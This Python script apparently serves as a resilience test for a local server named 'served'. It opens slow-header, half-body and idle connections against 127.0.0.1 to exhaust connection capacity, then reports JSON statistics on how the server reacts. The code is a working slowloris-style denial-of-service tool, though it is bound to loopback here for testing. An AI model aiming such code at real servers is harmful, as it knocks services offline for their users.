#!/usr/bin/env python3
"""served_attack.py: the connection-exhaustion attacks of issue 13 item 2,
from one source address, against served on 127.0.0.1.

  --slow N      N slow-header connections: the request line, then one header
                byte every --every seconds (never finishing the header block)
  --half N      N requests announcing a 1 MB body, sending half of it, then
                stalling (--half-key: with this bearer key; otherwise none)
  --hold N      N connections that send nothing
  --reconnect   reopen every connection the server closes (keep the pressure)
  --duration S  run this long, then close everything and print a JSON summary:
                opened, closed_by_server, closed_fast (within 1 s of opening),
                still_open, connect_errors, got_401.
"""
import argparse, json, selectors, socket, sys, time

p = argparse.ArgumentParser()
p.add_argument("--port", type=int, required=True)
p.add_argument("--src", default="127.0.0.1")
p.add_argument("--slow", type=int, default=0)
p.add_argument("--half", type=int, default=0)
p.add_argument("--half-key", default="")
p.add_argument("--hold", type=int, default=0)
p.add_argument("--every", type=float, default=2.0)
p.add_argument("--duration", type=float, default=10.0)
p.add_argument("--reconnect", action="store_true")
a = p.parse_args()

sel = selectors.DefaultSelector()
stats = {"opened": 0, "closed_by_server": 0, "closed_fast": 0, "connect_errors": 0, "got_401": 0}
conns = {}   # sock -> dict(kind, t0, out)
HALF = 1 << 20


def opening(kind):
    if kind == "slow":
        return b"GET /_fed/v1/identity HTTP/1.1\r\nHost: x\r\nX-Slow: "
    if kind == "half":
        h = b"POST /_matrix/federation/v1/get_missing_events/x HTTP/1.1\r\nHost: x\r\n"
        if a.half_key:
            h += b"Authorization: Bearer " + a.half_key.encode() + b"\r\n"
        return h + b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % HALF + b"[" * (HALF // 2)
    return b""


def open_one(kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.bind((a.src, 0))
        s.settimeout(3)
        s.connect(("127.0.0.1", a.port))
    except OSError:
        stats["connect_errors"] += 1
        s.close()
        return
    s.setblocking(False)
    stats["opened"] += 1
    conns[s] = {"kind": kind, "t0": time.monotonic(), "out": opening(kind), "in": b""}
    sel.register(s, selectors.EVENT_READ)
    flush(s)


def flush(s):
    c = conns.get(s)
    while c and c["out"]:
        try:
            n = s.send(c["out"][:65536])
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            return
        c["out"] = c["out"][n:]


def gone(s):
    c = conns.pop(s)
    sel.unregister(s)
    s.close()
    stats["closed_by_server"] += 1
    if time.monotonic() - c["t0"] < 1.0:
        stats["closed_fast"] += 1
    if b" 401 " in c["in"][:64]:
        stats["got_401"] += 1
    if a.reconnect:
        open_one(c["kind"])


for kind, n in (("half", a.half), ("slow", a.slow), ("hold", a.hold)):
    for _ in range(n):
        open_one(kind)

end = time.monotonic() + a.duration
next_byte = time.monotonic() + a.every
while time.monotonic() < end:
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            d = s.recv(65536)
        except (BlockingIOError, InterruptedError):
            continue
        except OSError:
            d = b""
        if d:
            conns[s]["in"] += d[:256]
            continue
        gone(s)
    for s in list(conns):
        flush(s)
    if time.monotonic() >= next_byte:
        next_byte += a.every
        for s, c in list(conns.items()):
            if c["kind"] == "slow":
                try:
                    s.send(b"a")
                except OSError:
                    pass

stats["still_open"] = len(conns)
for s in list(conns):
    s.close()
print(json.dumps(stats))
sys.stdout.flush()
